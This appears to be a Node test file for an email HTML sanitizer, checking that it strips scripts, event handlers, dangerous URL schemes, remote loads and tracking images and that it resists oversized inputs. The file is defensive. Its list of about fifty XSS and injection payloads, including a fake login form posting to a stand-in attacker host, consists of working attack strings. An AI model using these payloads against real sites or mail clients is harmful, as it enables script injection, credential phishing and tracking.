import assert from 'node:assert/strict';
import test from 'node:test';
import fc from 'fast-check';
import { deepestNesting } from './deepest-nesting.ts';
import { sanitizeMailHtml } from './sanitize-mail-html.ts';

const attacks: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:a" onload="alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;z-index:9">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<body onload=alert(1) background="https://evil.example/b.png">x',
  '<table background="https://evil.example/b.png"><tr><td>x</table>',
  '<video poster="https://evil.example/p.png" src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input type=image src="https://evil.example/p.png" onfocus=alert(1) autofocus>',
  '<img srcset="https://evil.example/p.png 1x">',
  '<img src="//evil.example/p.png">',
  '<img src=`https://evil.example/p.png`>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<p title="x" onmouseover="alert(1)" id="location" class="x" name="cookie">x</p>',
  '<details ontoggle=alert(1) open>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div data-remote-src="https://evil.example" data-quoted="rest">x</div>',
  '<math href="javascript:alert(1)">x</math>',
  '\0<\0script>alert(1)</script>',
];

const DANGER =
  /<(?!\/?(?:a|b|i|p|br|div|span|img|table|tbody|tr|td|details|summary|blockquote)\b)[a-z!]|\son\w+\s*=|javascript:|vbscript:|file:|<[^>]*data:|(?<!remote-)src="(?!cid:)|srcset|srcdoc|url\(|expression|binding|position|<[^>]*\b(?:background|poster|action|id|class|name)=/iu;

for (const attack of attacks) {
  test(`nothing runs or loads: ${JSON.stringify(attack)}`, () => {
    const safe = sanitizeMailHtml(`<div>before</div>${attack}<div>after</div>`);
    assert.ok(safe);
    assert.match(safe.html, /before/u);
    assert.doesNotMatch(safe.html, DANGER);
    assert.equal(safe.html.includes('data-quoted'), false);
  });
}

test('links open elsewhere and tell nothing', () => {
  assert.equal(
    sanitizeMailHtml('<a href="https://fern.example/?a=1&b=2" target="_top" rel="opener">x</a>')?.html,
    '<a href="https://fern.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
  assert.match(sanitizeMailHtml('<a href="mailto:a@b.example">x</a>')!.html, /href="mailto:a@b.example"/u);
});

test('remote images are withheld and said to be there; inline ones stay', () => {
  const remote = sanitizeMailHtml('<p>x</p><img src="https://shop.example/fern.png" alt="Fern" width="300">')!;
  assert.deepEqual(remote, {
    html: '<p>x</p><img alt="Fern" width="300" data-remote-src="https://shop.example/fern.png" />',
    hasRemoteImages: true,
  });
  assert.match(sanitizeMailHtml('<img src="http://t.example/o.gif" width=1 height=1>')!.html, /data-tracker/u);
  const inline = sanitizeMailHtml('<img src="CID:fern@1" alt="Fern">')!;
  assert.deepEqual(inline, { html: '<img alt="Fern" src="cid:fern@1" />', hasRemoteImages: false });
});

test('harmless formatting stays', () => {
  const html =
    '<p style="color:#234;margin:0 0 4px">Hello <b>Ada</b></p><ul><li>fern</li></ul><table border="1"><tbody><tr><td colspan="2">pot</td></tr></tbody></table>';
  assert.equal(sanitizeMailHtml(html)?.html, html);
});

test('the words of a button keep the ground they stand on; a ground that would be fetched goes', () => {
  const button = (ground: string) => sanitizeMailHtml(`<a style="background:${ground};color:#fff">x</a>`)?.html ?? '';
  assert.match(button('#c84a12'), /background:#c84a12/);
  assert.doesNotMatch(button('#c84a12 url(https://evil.example/b.png)'), /background|evil/);
});

test('what is too large or too deep is refused quickly', (t) => {
  const before = performance.now();
  assert.equal(sanitizeMailHtml('<div>'.repeat(20_000)), null);
  assert.equal(sanitizeMailHtml(`<p>${'x'.repeat(1_000_001)}`), null);
  assert.equal(sanitizeMailHtml('<b '.repeat(300_000)), null);
  for (const hostile of [
    '<'.repeat(900_000),
    '&'.repeat(900_000),
    '<!--'.repeat(200_000),
    '<p '.repeat(300_000),
    '<a href="'.repeat(90_000),
    '<td>'.repeat(100_000),
  ]) {
    sanitizeMailHtml(hostile);
  }
  const ms = Math.round(performance.now() - before);
  t.diagnostic(`${ms} ms`);
  assert.ok(ms < 20_000, `${ms} ms`);
});

test('depth is counted without building a tree', () => {
  assert.equal(deepestNesting('<div><b>x</b></div><p>a<p>b<br><img src=x>'), 2);
  assert.equal(deepestNesting('a < b and </div>'), 0);
});

test('sanitising twice changes nothing more, whatever the input', () => {
  const scrap = fc.constantFrom(
    '<div>',
    '</div>',
    '<b>',
    '<p',
    '"',
    "'",
    '>',
    '<!--',
    '-->',
    '<script>',
    '</script>',
    '&lt;',
    '<a href=',
    'javascript:',
    ' onerror=',
    '<img src=x ',
    '<svg>',
    '<style>',
    '<td>',
    '</table>',
    'x',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(scrap, fc.string()), { maxLength: 30 }), (pieces) => {
      const once = sanitizeMailHtml(pieces.join(''))!.html;
      assert.doesNotMatch(once, /<[^>]*\son\w+=|<script|<style|<svg/iu);
      assert.equal(sanitizeMailHtml(once)!.html, once);
    }),
    { numRuns: 500 },
  );
});
